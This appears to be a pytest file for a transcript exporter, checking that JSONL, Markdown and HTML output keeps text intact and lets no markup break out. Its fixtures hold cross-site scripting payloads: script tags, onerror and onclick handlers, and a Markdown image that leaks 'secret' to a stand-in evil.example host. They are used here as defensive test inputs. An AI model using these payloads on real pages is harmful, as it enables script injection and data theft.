"""A saved talk holds what was said, lets nothing break out, and is there whole or not at all."""

import json
import os
import re
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from npc_lab import Message, NPCLabError, Transcript
from npc_lab.export import as_html, as_jsonl, as_markdown, export

pytestmark = pytest.mark.once

NOW = datetime.now().astimezone()
HOSTILE = (
    "</blockquote></article><script>alert(1)</script><img src=x onerror=alert(1)>\n"
    "![x](https://evil.example/?q=secret)\n\n[z]: https://evil.example\n\n"
    "# A heading\n\n---\n```\nan open fence <!--"
)
NAME = "<b onclick=alert(1)>*Hans*</b>\n# [z]"


def talk(*lines: str) -> Transcript:
    spoken = [Message("npc", line, NOW, 1 + place % 2, 1.5) for place, line in enumerate(lines)]
    return Transcript([Message("system", "Hello!", NOW), *spoken], {1: "Sir Guy", 2: NAME}, "2 turns done")


def test_every_line_of_jsonl_is_one_message() -> None:
    lines = as_jsonl(talk("Grüße 骑士")).splitlines()
    assert json.loads(lines[0]) == {
        "sender": "system",
        "speaker": "(opening)",
        "content": "Hello!",
        "seat": None,
        "timestamp": NOW.isoformat(),
        "seconds": None,
    }
    assert json.loads(lines[1])["speaker"] == "Sir Guy"
    assert json.loads(lines[1])["seconds"] == 1.5
    assert "Grüße 骑士" in lines[1]
    assert as_jsonl(Transcript()) == ""


def test_jsonl_keeps_every_word_whatever_it_is() -> None:
    words = 'a\nb\r\n\x0b\x0c\x1c\x85\u2028\u2029 "quoted" \\ \x00'
    text = as_jsonl(talk(words, "\ud83d\ude00 \ud800"))
    text.encode("utf-8")
    assert [json.loads(line)["content"] for line in text.splitlines()] == ["Hello!", words, "😀 \ufffd"]


def test_markdown_names_the_speaker_of_each_line() -> None:
    text = as_markdown(talk("I am **Guy**.\n\n- a sword"), "The knight #1")
    assert text.startswith("# The knight \\#1\n\n**(opening):**\n\n> Hello!\n\n**Sir Guy:**\n\n")
    assert "> I am **Guy**.\n>\n> - a sword\n" in text
    assert text.endswith("(Stopped: 2 turns done.)\n")


def test_in_markdown_nothing_breaks_out_of_its_line() -> None:
    """Read by a reader that lets HTML through: what was said stays between the quotation's tags."""
    page = MarkdownIt("commonmark").render(as_markdown(talk(HOSTILE, "[z] \\<script> \\![x](y)"), NAME))
    assert len(re.findall("<blockquote>", page)) == len(re.findall("</blockquote>", page)) == 3
    assert "<script" not in page
    assert "<img" not in page
    assert "<a " not in page
    assert "<b " not in page
    outside = re.sub(r"<blockquote>.*?</blockquote>", "", page, flags=re.DOTALL)
    assert set(re.findall(r"<(\w+)", outside)) == {"h1", "p", "strong"}
    assert outside.count("<h1") == 1
    assert "(Stopped: 2 turns done.)</p>" in outside


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attributes

    def handle_data(self, data: str) -> None:
        self.text += data


def read(page: str) -> _Page:
    parsed = _Page()
    parsed.feed(page)
    return parsed


def test_the_page_shows_titles_names_and_words_as_they_were_written() -> None:
    page = read(as_html(talk(HOSTILE, "hi"), NAME))
    assert page.tags.count("article") == 3
    assert page.text.count("<b onclick=alert(1)>*Hans*</b>") == 3  # title twice, speaker once
    assert "<script>alert(1)</script>" in page.text
    assert "(Stopped: 2 turns done.)" in page.text
    assert "nothing was said" in as_html(Transcript())


def test_the_page_runs_nothing_and_fetches_nothing() -> None:
    page = read(as_html(talk(HOSTILE), NAME))
    assert not {"script", "img", "link", "iframe", "b"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on") or name in ("src", "style")]
    assert ("content", "default-src 'none'; style-src 'unsafe-inline'") in page.attributes
    assert "url(" not in as_html(talk("hi"))


def test_braces_are_words_like_others() -> None:
    assert "{title} {0}" in as_html(talk("{title} {0}"), "{lines}")


@pytest.mark.parametrize("name", ["talk.md", "talk.JSONL", "talk.html"])
def test_the_ending_chooses_and_nothing_else_is_left_behind(tmp_path: Path, name: str) -> None:
    path = export(talk("Grüße \ud800"), str(tmp_path / name), "A title")
    assert os.listdir(tmp_path) == [name]
    words = path.read_bytes().decode("utf-8")
    assert "Grüße \ufffd" in words
    assert words[0] == {"md": "#", "jsonl": "{", "html": "<"}[name.split(".")[1].lower()]


def test_an_older_file_is_replaced(tmp_path: Path) -> None:
    path = tmp_path / "talk.md"
    path.write_text("old " * 10_000)
    assert "old" not in export(talk("new"), path).read_text()


def test_what_cannot_be_written_is_said_in_words(tmp_path: Path) -> None:
    (tmp_path / "folder.md").mkdir()
    for name, words in {
        "talk.pdf": r"\.md, \.jsonl or \.html",
        "talk": r"\.md, \.jsonl or \.html",
        "missing/talk.md": "There is no folder",
        "folder.md": "could not be written",
        "a\x00b.md": "could not be written",
        "x" * 300 + ".md": "could not be written",
    }.items():
        with pytest.raises(NPCLabError, match=words):
            export(talk("hi"), tmp_path / name)
    assert os.listdir(tmp_path) == ["folder.md"]


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write anywhere")
def test_a_folder_that_may_not_be_written_to_is_named(tmp_path: Path) -> None:
    tmp_path.chmod(0o500)
    with pytest.raises(NPCLabError, match="may not write"):
        export(talk("hi"), tmp_path / "talk.md")
